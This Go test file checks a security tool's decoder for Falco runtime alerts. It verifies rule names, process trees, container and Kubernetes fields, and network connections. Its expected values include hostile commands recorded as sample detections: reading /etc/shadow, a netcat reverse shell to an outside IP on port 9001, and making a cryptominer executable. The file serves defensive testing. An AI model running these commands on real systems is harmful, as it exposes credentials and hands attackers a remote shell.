package decode_test

import (
	"encoding/json"
	"reflect"
	"strings"
	"testing"

	"github.com/cairn-cdr/cairn"
	"github.com/cairn-cdr/cairn/decode"
)

func TestFalco(t *testing.T) {
	c := mustDecodeFile(t, "testdata/falco.ndjson", decode.Auto)
	noRejects(t, c)
	if len(c.Events) != 4 {
		t.Fatalf("got %d events, want 4", len(c.Events))
	}
	for i, ev := range c.Events {
		if ev.Source != cairn.SourceFalco || ev.Kind != cairn.KindAlert || !strings.HasPrefix(ev.ID, "fa-") || ev.Alert == nil {
			t.Errorf("event %d: %s %s %q", i, ev.Source, ev.Kind, ev.ID)
		}
	}

	ev := c.Events[0]
	wantAlert := &cairn.Alert{Rule: "Read sensitive file untrusted", Priority: "Warning", Source: "syscall",
		Tags: []string{"filesystem", "mitre_credential_access", "T1555"}}
	if ev.Alert.Rule != wantAlert.Rule || ev.Alert.Priority != wantAlert.Priority || ev.Alert.Source != wantAlert.Source ||
		!reflect.DeepEqual(ev.Alert.Tags, wantAlert.Tags) || !strings.HasPrefix(ev.Alert.Output, "10:20:05.408091526: Warning") {
		t.Errorf("alert %+v", ev.Alert)
	}
	if ev.Alert.Fields["proc.pid"] != json.Number("4242") || ev.Alert.Fields["evt.time"] != json.Number("1714731605408091526") ||
		ev.Alert.Fields["fd.name"] != "/etc/shadow" {
		t.Errorf("fields %v", ev.Alert.Fields)
	}
	if ev.Type != "openat" || ev.Host != "host-1" || !ev.Time.Equal(mustTime(t, "2024-05-03T10:20:05.408091526Z")) {
		t.Errorf("header %s %s %v", ev.Type, ev.Host, ev.Time)
	}
	want := &cairn.Process{Name: "cat", Binary: "/usr/bin/cat", Args: "/etc/shadow", PID: 4242, PPID: 4241, Cwd: "/root/",
		User: "root", UID: i64(0), LoginUID: i64(1000), TTY: i64(34816), SID: i64(4100)}
	if !sameProcess(ev.Process, want) {
		t.Errorf("process:\n got %+v\nwant %+v", *ev.Process, *want)
	}
	if !sameProcess(ev.Parent, &cairn.Process{Name: "bash", Args: "-i", PID: 4241}) {
		t.Errorf("parent %+v", ev.Parent)
	}
	if !reflect.DeepEqual(ev.Ancestors, []cairn.Process{{Name: "sshd", PID: 900, PPID: 1}, {Name: "systemd", PID: 1}}) {
		t.Errorf("ancestors %+v", ev.Ancestors)
	}
	if ev.Container != nil || ev.K8s != nil || ev.Net != nil {
		t.Errorf("host alert: container %+v k8s %+v net %+v", ev.Container, ev.K8s, ev.Net)
	}
	if !reflect.DeepEqual(ev.File, &cairn.File{Path: "/etc/shadow", Op: "open", Flags: "O_RDONLY"}) {
		t.Errorf("file %+v", ev.File)
	}

	ev = c.Events[1]
	ct := ev.Container
	if ct == nil || ct.ID != "5f3a9c2b1d0e" || ct.Name != "web" || ct.Image != "docker.io/library/nginx:1.25" || ct.Privileged == nil || !*ct.Privileged {
		t.Errorf("container %+v", ct)
	}
	if !reflect.DeepEqual(ev.K8s, &cairn.K8s{Namespace: "default", Pod: "web-6c4f8"}) {
		t.Errorf("k8s %+v", ev.K8s)
	}
	if ev.Process.Name != "sh" || ev.Process.Args != "-i" || *ev.Process.LoginUID != -1 || ev.Parent.Name != "runc" || ev.Parent.PID != 290 {
		t.Errorf("process %+v parent %+v", ev.Process, ev.Parent)
	}

	ev = c.Events[2]
	if !reflect.DeepEqual(ev.Net, &cairn.Conn{Op: "connect", Protocol: "tcp", SrcIP: "10.1.2.3", SrcPort: 41000, DstIP: "104.199.23.243", DstPort: 9001}) {
		t.Errorf("net %+v", ev.Net)
	}
	if ev.File != nil || ev.K8s != nil {
		t.Errorf("socket alert: file %+v, k8s %+v (from <NA> and null)", ev.File, ev.K8s)
	}
	if ev.Process.Name != "nc" || ev.Process.Args != "104.199.23.243 9001 -e /bin/sh" {
		t.Errorf("process %+v", ev.Process)
	}

	// falcosidekick's body: the host comes from evt.hostname, the uuid
	// is not the id.
	ev = c.Events[3]
	if ev.Host != "node-9" || ev.Type != "fchmodat" || strings.Contains(ev.ID, "5a0b1c2d") {
		t.Errorf("sidekick: host %q type %q id %q", ev.Host, ev.Type, ev.ID)
	}
	if !reflect.DeepEqual(ev.File, &cairn.File{Path: "/tmp/easyminer", Op: "chmod"}) || ev.Process.Args != "-c chmod +x /tmp/easyminer" {
		t.Errorf("file %+v process %+v", ev.File, ev.Process)
	}
	if ev.Container == nil || ev.Container.ID != "9e8d7c6b5a4f" || ev.Container.FullID != "9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d9c8b7a6f5e4d3c2b1a0f9e8d" {
		t.Errorf("container %+v", ev.Container)
	}
}

func TestFalcoTimeAndRejects(t *testing.T) {
	c := mustDecode(t, `{"rule":"r","output":"o","output_fields":{"evt.time":1714731605408091526}}`, decode.Falco)
	noRejects(t, c)
	if len(c.Events) != 1 || !c.Events[0].Time.Equal(mustTime(t, "2024-05-03T10:20:05.408091526Z")) {
		t.Fatalf("time from evt.time: %+v", c.Events)
	}
	tests := []struct{ in, reason string }{
		{`{"output":"o","priority":"Warning","time":"2024-05-03T10:20:05Z"}`, "falco: alert has no rule"},
		{`{"rule":"r","output":"o"}`, "falco: alert has no time"},
		{`{"rule":"r","output":"o","time":"soon"}`, `falco: time: "soon" is not an RFC 3339 time`},
		{`{"rule":"r","output":"o","time":"2024-05-03T10:20:05Z","tags":"x"}`, "falco: field tags: JSON string where []string is expected"},
	}
	for _, tt := range tests {
		c := mustDecode(t, tt.in, decode.Falco)
		if len(c.Rejects) != 1 || c.Rejects[0].Reason != tt.reason {
			t.Errorf("%s: rejects %+v, want %q", tt.in, c.Rejects, tt.reason)
		}
	}
}
